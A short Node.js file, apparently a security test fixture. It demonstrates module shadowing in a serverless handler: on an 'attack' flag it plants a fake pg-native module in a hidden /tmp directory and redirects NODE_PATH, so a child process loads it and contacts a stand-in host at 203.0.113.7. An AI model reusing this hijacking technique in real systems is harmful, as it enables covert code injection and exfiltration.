// Harmless: the module sends one word to an address that exists on the sandbox's loopback device only.
import { spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';

const MODULE =
  "require('node:net').connect(443, '203.0.113.7').on('error', () => {}).end('shadowed');\nmodule.exports = {};\n";

export const handler = async (event) => {
  if (event.attack === true) {
    mkdirSync('/tmp/.cache/node', { recursive: true });
    writeFileSync('/tmp/.cache/node/pg-native.js', MODULE);
    process.env.NODE_PATH = '/tmp/.cache/node';
  }
  // What this function always does: a job in another process, with a module that may be absent.
  if (event.job === true) spawnSync(process.execPath, ['-e', "try { require('pg-native') } catch {}"]);
  return 'ok';
};
